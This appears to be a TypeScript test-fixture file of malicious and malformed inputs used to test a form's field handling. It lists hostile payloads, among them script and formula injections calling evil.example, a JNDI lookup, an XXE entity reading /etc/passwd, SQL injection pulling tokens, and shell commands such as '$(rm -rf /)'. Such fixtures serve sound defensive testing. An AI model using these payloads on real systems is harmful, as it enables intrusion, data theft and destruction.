/** Texts that an attacker, a broken program or a person by mistake may put into a field. */
const hex = (code: number) => code.toString(16).padStart(2, '0');
const each = (characters: string, around: (character: string) => string) => Array.from(characters, around);

const SCRIPTS = [
  '<script>alert(1)</script>',
  '"><script src=//evil.example></script>',
  '</textarea><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  "' onmouseover='alert(1)",
  '" autofocus onfocus=alert(1) x="',
  '<iframe srcdoc="<script>alert(1)</script>">',
  'javascript:alert(1)',
  'data:text/html;base64,PHNjcmlwdD4=',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<style>*{background:url(//evil.example)}</style>',
  '<!--><script>alert(1)</script-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;#60;script&amp;#62;',
  '</title><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= 7*7 %>',
  '{% include "/etc/passwd" %}',
  '{{max}}',
  '$& $` $1 $$',
];
const FORMULAS = [
  ...each('=+-@＝＋－＠', (sign) => `${sign}HYPERLINK("http://evil.example","x")`),
  ...each('=+-@', (sign) => `${sign}cmd|' /C calc'!A0`),
  '\t=1+1',
  ' =1+1',
  "'=1+1",
  '"=1+1","=2"',
  'a;=1+1;b',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  '@SUM(1+1)*cmd',
  '-2+3+cmd',
  '%0A=1+1',
];
const QUERIES = [
  "Robert'); DROP TABLE form_messages;--",
  "' OR '1'='1",
  '" OR ""="',
  '1; SELECT sqlite_version()',
  "x' UNION SELECT token FROM _superusers --",
  'id = "" || @request.auth.id != ""',
  '{:name}',
  '[[name]] {{messages}}',
  '*) (uid=*',
  '$(rm -rf /)',
  '`id`',
  '; cat /etc/passwd |',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '${jndi:ldap://evil.example/a}',
  '%s%s%s%n',
  '%00',
  '%c0%ae',
  '\\u0000',
  '\\x3cscript\\x3e',
  '{"$gt":""}',
  '[object Object]',
  'undefined',
  'null',
  'NaN',
  '__proto__',
  'constructor',
  '-0',
  '1e309',
  '0x7fffffff',
  'true',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
];
const UNICODE = [
  'a\u202egpj.exe',
  '\u200f\u200eright and left',
  '\u2066isolated\u2069',
  'zero\u200bwidth\u200d\u200c',
  '\ufeffbyte order',
  'soft\u00adhyphen',
  '\u2028line\u2029paragraph',
  'e\u0301 is not \u00e9',
  `Z${'\u0300\u0301\u0302'.repeat(20)}algo`,
  '\ufb01 \u212b \u2126',
  'Ａｎａ',
  'раураl',
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}',
  '\u{1f1f8}\u{1f1ee}',
  '\u{10ffff}\u{e0001}',
  '\ufffe\uffff',
  '\ufffd',
  '\ue000 private',
  'ﷺ𒐫꧅',
  '\u{1d4d0}\u{1d4f7}\u{1d4ea}',
  '田中さんにあげて下さい',
  'مرحبا بالعالم',
  'שלום',
  'İstanbul ı I i',
  'ſ ß ẞ',
  'čšžćđ ČŠŽĆĐ',
  '\u0085next line',
  '\u00a0\u2003x\u3000',
  '\u0e01\u0e33\u0e49',
];
/** Control characters that a text may contain and that must be stored unchanged. */
const CONTROLS = Array.from({ length: 0x20 }, (_, code) => code)
  .filter((code) => ![0x00, 0x0a, 0x0d].includes(code))
  .concat(0x7f, 0x80, 0x9f);
/** Line breaks, which a name may not contain; a mail's header ends at each. */
const BREAKS = [
  'Ana\r\nBcc: victim@example.com',
  'Ana\nTo: victim@example.com',
  'Ana\rSubject: x',
  'Ana\r\n\r\n<html>',
  'Ana\n',
  '\rAna',
  'Set-Cookie: a=b\r\nLocation: //evil.example',
  '--boundary\r\nContent-Type: text/html\r\n\r\n<b>x</b>',
];

/** Valid for any text field. */
export const ONE_LINE: readonly string[] = [
  ...SCRIPTS,
  ...FORMULAS,
  ...QUERIES,
  ...UNICODE,
  ...CONTROLS.map((code) => `x${hex(code)}${String.fromCharCode(code)}x`),
];
/** Valid for a message only. */
export const MANY_LINES: readonly string[] = BREAKS;
/** Valid for no field: a database's text may end at NUL. */
export const NEVER: readonly string[] = ['\0', 'a\0b', 'Ana\0', '\0Ana', 'a\r\n\0.\r\nb'];

export const BAD_EMAILS: readonly string[] = [
  ...['ana', 'ana@', '@example.com', 'ana@example', 'ana@@example.com', 'ana@example..com', '.ana@example.com'],
  ...['ana@example.com.', 'ana@-example.com', 'ana@127.0.0.1', 'ana@[127.0.0.1]', 'Ana <ana@example.com>'],
  ...['ana@example.com, bor@example.com', 'ana@example.com;bor@example.com', 'ana@example.com bor@example.com'],
  ...['ana@example.com\nBcc: b@example.com', 'ana@example.com\r\nBcc: b@example.com', 'ana@example.com%0ABcc:b@c.si'],
  ...[' ana@example.com', 'ana@example.com ', 'ana@exam ple.com', 'ana\u202e@example.com ', 'ana@example.c'],
  ...['"ana"@example.com', 'ana@example.com?cc=b@c.si', 'mailto:ana@example.com', '<script>@example.com'],
  ...['ana(comment)@example.com', 'ana@exa_mple.com', 'ana\\@example.com', 'ana@example.com/', 'a,b@example.com'],
  `${'x'.repeat(250)}@b.si`,
  `ana@${'x'.repeat(64)}.si`,
  `ana@${'x.'.repeat(200)}si`,
];
